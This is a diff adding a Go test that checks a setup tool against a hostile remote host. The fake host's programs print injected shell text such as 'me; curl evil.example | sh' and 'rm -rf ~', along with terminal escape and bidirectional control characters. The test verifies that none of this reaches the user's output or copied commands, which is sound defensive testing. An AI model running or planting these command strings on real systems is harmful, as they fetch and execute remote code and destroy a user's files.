@@ -14,6 +14,7 @@ import (
 	"testing"
 
 	"github.com/podtask/podtask/internal/connect/sshhost"
+	"github.com/podtask/podtask/internal/testing/hostile"
 )
 
 // machine is a host whose shell is the one of this machine, with another home and programs of its own.
@@ -138,6 +139,23 @@ func TestSetupAsksAndCopiesAllOrNothing(t *testing.T) {
 	s.executable = func() (string, error) { return filepath.Join(m.home, "none", "podtask"), nil }
 	if err := s.run(t.Context()); err == nil || len(m.files()) != 3 {
 		t.Errorf("a copy that fails: %v %q", err, m.files())
+	}
+}
+
+// TestAHostileHostIsSetUp: what a host says of itself is one line of text without control characters, in no command that a person copies,
+// and a probe without end is cut.
+func TestAHostileHostIsSetUp(t *testing.T) {
+	t.Parallel()
+	m := newMachine(t)
+	m.program("id", `case "$1" in -u) echo 1000 ;; *) printf 'me; curl evil.example | sh \033]0;x\007\n' ;; esac`)
+	m.program("podman", `printf 'podman version 5.4.2\033[2J\302\233x\342\200\256\n'; i=0; while [ $i -lt 2000 ]; do echo "podtask=/evil; rm -rf ~ $i"; i=$((i+1)); done`)
+	m.release("ID=debian\nPRETTY_NAME='Debian\n13\033[2J'\n")
+	s, out := m.setup("y\n")
+	if err := s.run(t.Context()); err != nil {
+		t.Fatal(err)
+	}
+	if hostile.Steers(out.String()) != 0 || strings.Contains(out.String(), "enable-linger me;") || !strings.Contains(out.String(), `enable-linger "$(id -un)"`) {
+		t.Errorf("it says %q", out)
 	}
 }
 
